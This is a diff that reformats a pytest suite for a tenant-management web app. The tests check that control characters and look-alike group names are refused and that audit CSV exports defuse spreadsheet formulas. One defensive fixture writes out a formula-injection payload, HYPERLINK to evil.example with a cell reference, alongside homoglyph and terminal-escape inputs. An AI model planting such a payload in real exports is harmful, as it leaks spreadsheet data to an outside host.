@@ -52,8 +52,9 @@ def test_a_nul_in_a_page_url_is_a_400_before_any_query(client, world, url, param
 
 
 @pytest.mark.parametrize("char", CONTROL_CORPUS)
-@pytest.mark.parametrize("page", ["/access/", "/audit/", "/approvals/", "/names/",
-                                  "/tenants/payments/truth/"])
+@pytest.mark.parametrize(
+    "page", ["/access/", "/audit/", "/approvals/", "/names/", "/tenants/payments/truth/"]
+)
 def test_control_characters_in_a_page_query_string_are_a_400(client, world, page, char):  # noqa: F811
     client.force_login(world.admin)
     response = client.get(page, {"q": f"pay{char}ments"})
@@ -67,7 +68,8 @@ def test_a_control_character_in_a_query_parameter_name_is_a_400(client, world): 
     response = client.get("/access/?q\x1b=1")
     assert response.status_code == 400
     assert "The name of a query parameter holds a control character (U+001B)" in (
-        response.content.decode())
+        response.content.decode()
+    )
 
 
 def test_a_page_without_control_characters_is_served_as_before(client, world):  # noqa: F811
@@ -82,16 +84,19 @@ def test_control_characters_in_an_api_query_string_are_a_validation_problem(worl
     body = assert_problem(response, 400, "validation-error")
     kind = "a bidirectional control" if char in BIDI else "a control"
     assert body["detail"] == (
-        f"The query parameter tenant holds {kind} character (U+{ord(char):04X}).")
+        f"The query parameter tenant holds {kind} character (U+{ord(char):04X})."
+    )
     assert body["errors"] == {"tenant": [body["detail"]]}
 
 
 def test_a_nul_in_an_api_path_is_a_validation_problem_not_a_404(world):  # noqa: F811
-    for path in ("/api/v1/tenants/%00/", "/api/v1/access/groups/pay%00/",
-                 "/api/v1/tenants/pay%E2%80%AEments/"):
+    for path in (
+        "/api/v1/tenants/%00/",
+        "/api/v1/access/groups/pay%00/",
+        "/api/v1/tenants/pay%E2%80%AEments/",
+    ):
         body = assert_problem(api(world.admin).get(path), 400, "validation-error")
         assert "The path holds" in body["detail"]
-
 
 
 def test_the_admin_refuses_a_look_alike_group_on_its_field(world, rf):  # noqa: F811
@@ -101,46 +106,70 @@ def test_the_admin_refuses_a_look_alike_group_on_its_field(world, rf):  # noqa: 
     tenant = world.search
     request = rf.get("/admin/")
     request.user = world.admin
-    TenantForm = admin.site._registry[Tenant].get_form(request, obj=tenant)  # noqa: N806
+    TenantForm = admin.site._registry[Tenant].get_form(request, obj=tenant)
     data = {key: value for key, value in model_to_dict(tenant).items() if value is not None}
-    data |= {field: json.dumps(getattr(tenant, field)) for field in (
-        "owner_groups", "member_groups", "viewer_groups", "allowed_domains", "notify_emails")}
-    data |= {"member_groups": json.dumps([*tenant.member_groups, f"p{CYRILLIC_A}yments-owners"]),
-             "allowed_clusters": [c.pk for c in tenant.allowed_clusters.all()],
-             "allowed_tiers": [t.pk for t in tenant.allowed_tiers.all()]}
+    data |= {
+        field: json.dumps(getattr(tenant, field))
+        for field in (
+            "owner_groups",
+            "member_groups",
+            "viewer_groups",
+            "allowed_domains",
+            "notify_emails",
+        )
+    }
+    data |= {
+        "member_groups": json.dumps([*tenant.member_groups, f"p{CYRILLIC_A}yments-owners"]),
+        "allowed_clusters": [c.pk for c in tenant.allowed_clusters.all()],
+        "allowed_tiers": [t.pk for t in tenant.allowed_tiers.all()],
+    }
     form = TenantForm(data=data, instance=tenant)
     assert not form.is_valid()
     assert form.errors["member_groups"] == [
-        f"'p{CYRILLIC_A}yments-owners' looks like 'payments-owners' (mixes Latin and Cyrillic)"]
+        f"'p{CYRILLIC_A}yments-owners' looks like 'payments-owners' (mixes Latin and Cyrillic)"
+    ]
+
 
 # --- form fields ---------------------------------------------------------------------------
 
 
 @pytest.mark.parametrize("char", CONTROL_CORPUS)
 def test_a_control_character_in_a_page_form_field_is_a_field_error_and_nothing_is_stored(
-        client, world, char):  # noqa: F811
+    client,
+    world,  # noqa: F811
+    char,
+):
     client.force_login(world.member)
-    page = client.post("/tokens/", {"name": f"ci{char}bot", "scopes": ["read"],
-                                    "expires": "90"})
+    page = client.post("/tokens/", {"name": f"ci{char}bot", "scopes": ["read"], "expires": "90"})
     assert page.status_code == 200
     kind = "a bidirectional control" if char in BIDI else "a control"
     assert page.context["form"].errors == {
-        "name": [f"This field holds {kind} character (U+{ord(char):04X}): remove it."]}
+        "name": [f"This field holds {kind} character (U+{ord(char):04X}): remove it."]
+    }
     assert not ApiToken.objects.filter(user=world.member).exists()
 
 
 def test_a_nul_in_a_choice_field_is_a_field_error_before_any_lookup(client, world):  # noqa: F811
     """The onboarding form's clusters are looked up in the database by what was sent."""
     client.force_login(world.admin)
-    page = client.post("/tenants/new/", {
-        "slug": "orders", "name": "Orders", "branch": "main", "engine": "argocd", "cpu": "4",
-        "memory": "8Gi", "storage": "50Gi", "namespaces": 5, "clusters": ["1\x00"],
-        "known_hosts": "git.example.com ssh-ed25519 AAAA\x00",
-    })
+    page = client.post(
+        "/tenants/new/",
+        {
+            "slug": "orders",
+            "name": "Orders",
+            "branch": "main",
+            "engine": "argocd",
+            "cpu": "4",
+            "memory": "8Gi",
+            "storage": "50Gi",
+            "namespaces": 5,
+            "clusters": ["1\x00"],
+            "known_hosts": "git.example.com ssh-ed25519 AAAA\x00",
+        },
+    )
     errors = page.context["form"].errors
     assert errors["clusters"] == ["This field holds a control character (U+0000): remove it."]
-    assert errors["known_hosts"] == [
-        "This field holds a control character (U+0000): remove it."]
+    assert errors["known_hosts"] == ["This field holds a control character (U+0000): remove it."]
     assert not Tenant.objects.filter(slug="orders").exists()
 
 
@@ -150,7 +179,8 @@ def test_a_multi_line_field_keeps_its_tabs_and_line_breaks_and_refuses_escapes(c
     client.post(f"/requests/{request.pk}/comment/", {"body": "Looks fine.\r\n\tShip it."})
     client.post(f"/requests/{request.pk}/comment/", {"body": "\x1b[2J\x1b[31mdone"})
     assert list(Comment.objects.filter(request=request).values_list("body", flat=True)) == [
-        "Looks fine.\r\n\tShip it."]
+        "Looks fine.\r\n\tShip it."
+    ]
 
 
 def test_every_page_form_refuses_control_characters():
@@ -159,9 +189,12 @@ def test_every_page_form_refuses_control_characters():
     for module in pkgutil.iter_modules(tenants.forms.__path__):
         loaded = importlib.import_module(f"tenants.forms.{module.name}")
         for value in vars(loaded).values():
-            if (isinstance(value, type) and issubclass(value, forms.BaseForm)
-                    and value.__module__ == loaded.__name__
-                    and not issubclass(value, RefusesControlCharacters)):
+            if (
+                isinstance(value, type)
+                and issubclass(value, forms.BaseForm)
+                and value.__module__ == loaded.__name__
+                and not issubclass(value, RefusesControlCharacters)
+            ):
                 unchecked.append(f"{loaded.__name__}.{value.__name__}")
     assert not unchecked
 
@@ -174,13 +207,20 @@ def test_audit_csv_cells_a_spreadsheet_would_evaluate_are_defused(client, world,
     """A name a tenant chose ends up in the audit log; opened in a spreadsheet, a cell
     starting with a formula character (or a tab or carriage return before one) must stay
     text: it starts with an apostrophe."""
-    hostile = f"{start}HYPERLINK(\"https://evil.example/?\"&A1)"
-    AuditEvent.objects.create(actor_label=hostile, action="tenant.update", object_type="tenant",
-                              object_id="1", object_repr=hostile, tenant=world.payments)
+    hostile = f'{start}HYPERLINK("https://evil.example/?"&A1)'
+    AuditEvent.objects.create(
+        actor_label=hostile,
+        action="tenant.update",
+        object_type="tenant",
+        object_id="1",
+        object_repr=hostile,
+        tenant=world.payments,
+    )
     client.force_login(world.admin)
     export = client.get("/audit/", {"format": "csv"})
-    rows = list(csv.DictReader(io.StringIO(b"".join(export.streaming_content).decode(),
-                                           newline="")))
+    rows = list(
+        csv.DictReader(io.StringIO(b"".join(export.streaming_content).decode(), newline=""))
+    )
     row = next(row for row in rows if row["action"] == "tenant.update")
     assert row["actor"] == row["object"] == f"'{hostile}"
 
@@ -195,29 +235,54 @@ def platform_group(settings):
     settings.BERTH_PLATFORM_ADMIN_GROUPS = ["platform-admins"]
 
 
-def onboard(world, **groups):  # noqa: ANN001, ANN003, F811
-    return api(world.admin).post("/api/v1/tenants/", {"slug": "orders", "name": "Orders",
-                                                       **groups}, format="json")
+def onboard(world, **groups):  # noqa: F811
+    return api(world.admin).post(
+        "/api/v1/tenants/", {"slug": "orders", "name": "Orders", **groups}, format="json"
+    )
 
 
-@pytest.mark.parametrize(("field", "name", "message"), [
-    # Payments' owners are `payments-owners`: this one has a Cyrillic а.
-    ("owner_groups", f"p{CYRILLIC_A}yments-owners",
-     f"'p{CYRILLIC_A}yments-owners' looks like 'payments-owners' (mixes Latin and Cyrillic)"),
-    # The same script throughout, and still drawn alike: rn for m.
-    ("member_groups", "payrnents-owners", "'payrnents-owners' looks like 'payments-owners'"),
-    ("viewer_groups", f"orders-te{CYRILLIC_A}m",
-     f"'orders-te{CYRILLIC_A}m' mixes Latin and Cyrillic; write a group's name in one script"),
-    ("owner_groups", "platform-admins",
-     "'platform-admins' is the platform admins' group; a tenant's groups never are"),
-    ("owner_groups", f"platform-{CYRILLIC_A}dmins",
-     f"'platform-{CYRILLIC_A}dmins' looks like the platform admins' group 'platform-admins' "
-     "(mixes Latin and Cyrillic)"),
-    ("owner_groups", "Platform-Admins",
-     "'Platform-Admins' looks like the platform admins' group 'platform-admins'"),
-])
+@pytest.mark.parametrize(
+    ("field", "name", "message"),
+    [
+        # Payments' owners are `payments-owners`: this one has a Cyrillic а.
+        (
+            "owner_groups",
+            f"p{CYRILLIC_A}yments-owners",
+            f"'p{CYRILLIC_A}yments-owners' looks like 'payments-owners' (mixes Latin and Cyrillic)",
+        ),
+        # The same script throughout, and still drawn alike: rn for m.
+        ("member_groups", "payrnents-owners", "'payrnents-owners' looks like 'payments-owners'"),
+        (
+            "viewer_groups",
+            f"orders-te{CYRILLIC_A}m",
+            f"'orders-te{CYRILLIC_A}m' mixes Latin and Cyrillic; write a group's name in one "
+            "script",
+        ),
+        (
+            "owner_groups",
+            "platform-admins",
+            "'platform-admins' is the platform admins' group; a tenant's groups never are",
+        ),
+        (
+            "owner_groups",
+            f"platform-{CYRILLIC_A}dmins",
+            f"'platform-{CYRILLIC_A}dmins' looks like the platform admins' group 'platform-admins' "
+            "(mixes Latin and Cyrillic)",
+        ),
+        (
+            "owner_groups",
+            "Platform-Admins",
+            "'Platform-Admins' looks like the platform admins' group 'platform-admins'",
+        ),
+    ],
+)
 def test_onboarding_over_the_api_refuses_a_group_that_passes_for_another(
-        world, platform_group, field, name, message):  # noqa: F811
+    world,  # noqa: F811
+    platform_group,
+    field,
+    name,
+    message,
+):
     body = assert_problem(onboard(world, **{field: [name]}), 400, "validation-error")
     assert body["errors"] == {field: [message]}
     assert not Tenant.objects.filter(slug="orders").exists()
@@ -227,21 +292,26 @@ def test_a_group_written_in_compatibility_characters_is_refused_with_its_nfkc_fo
     """Names are refused, not rewritten: the identity provider sends a group's name as it is
     spelled there, so a name Berth normalised would no longer match the group."""
     body = assert_problem(onboard(world, member_groups=["ｐａｙｍｅｎｔｓ-devs"]), 400)
-    assert body["errors"] == {"member_groups": [
-        "'ｐａｙｍｅｎｔｓ-devs' is written with compatibility or decomposed characters: "
-        "write it as 'payments-devs' (Unicode NFKC)"]}
+    assert body["errors"] == {
+        "member_groups": [
+            "'ｐａｙｍｅｎｔｓ-devs' is written with compatibility or decomposed characters: "
+            "write it as 'payments-devs' (Unicode NFKC)"
+        ]
+    }
     assert not Tenant.objects.filter(slug="orders").exists()
 
 
 def test_two_roles_of_one_tenant_cannot_name_look_alike_groups(world):  # noqa: F811
-    body = assert_problem(onboard(world, owner_groups=["orders-admins"],
-                                  member_groups=["orders-adrnins"]), 400)
+    body = assert_problem(
+        onboard(world, owner_groups=["orders-admins"], member_groups=["orders-adrnins"]), 400
+    )
     assert set(body["errors"]) == {"owner_groups", "member_groups"}
 
 
 def test_changing_a_tenant_over_the_api_refuses_a_look_alike_and_keeps_its_groups(world):  # noqa: F811
-    response = api(world.admin).patch("/api/v1/tenants/search/", {
-        "member_groups": [f"p{CYRILLIC_A}yments-owners"]}, format="json")
+    response = api(world.admin).patch(
+        "/api/v1/tenants/search/", {"member_groups": [f"p{CYRILLIC_A}yments-owners"]}, format="json"
+    )
     body = assert_problem(response, 400, "validation-error")
     assert "looks like 'payments-owners'" in body["errors"]["member_groups"][0]
     world.search.refresh_from_db()
@@ -250,25 +320,38 @@ def test_changing_a_tenant_over_the_api_refuses_a_look_alike_and_keeps_its_group
 
 def test_names_in_one_script_and_a_tenants_own_groups_are_accepted(world, platform_group):  # noqa: F811
     # Japanese mixes Han and kana (and Latin), as TR39 allows; ελληνικά is Greek throughout.
-    response = onboard(world, owner_groups=["開発チーム", "dev-開発"],
-                       member_groups=["ελληνικά", "orders-devs"])
+    response = onboard(
+        world, owner_groups=["開発チーム", "dev-開発"], member_groups=["ελληνικά", "orders-devs"]
+    )
     assert response.status_code == 201, response.json()
     # Payments keeps its own groups when they change around them.
-    response = api(world.admin).patch("/api/v1/tenants/payments/", {
-        "owner_groups": ["payments-owners"], "member_groups": ["payments-devs", "paym-devs"]},
-        format="json")
+    response = api(world.admin).patch(
+        "/api/v1/tenants/payments/",
+        {"owner_groups": ["payments-owners"], "member_groups": ["payments-devs", "paym-devs"]},
+        format="json",
+    )
     assert response.status_code == 200, response.json()
 
 
 def test_the_onboarding_form_refuses_a_look_alike_group_on_its_field(client, world):  # noqa: F811
     client.force_login(world.admin)
-    page = client.post("/tenants/new/", {
-        "slug": "orders", "name": "Orders", "owner_groups": f"p{CYRILLIC_A}yments-owners",
-        "branch": "main", "engine": "argocd", "cpu": "4", "memory": "8Gi", "storage": "50Gi",
-        "namespaces": 5,
-    })
+    page = client.post(
+        "/tenants/new/",
+        {
+            "slug": "orders",
+            "name": "Orders",
+            "owner_groups": f"p{CYRILLIC_A}yments-owners",
+            "branch": "main",
+            "engine": "argocd",
+            "cpu": "4",
+            "memory": "8Gi",
+            "storage": "50Gi",
+            "namespaces": 5,
+        },
+    )
     assert page.status_code == 200
     errors = page.context["form"].errors
     assert errors["owner_groups"] == [
-        f"'p{CYRILLIC_A}yments-owners' looks like 'payments-owners' (mixes Latin and Cyrillic)"]
+        f"'p{CYRILLIC_A}yments-owners' looks like 'payments-owners' (mixes Latin and Cyrillic)"
+    ]
     assert not Tenant.objects.filter(slug="orders").exists()
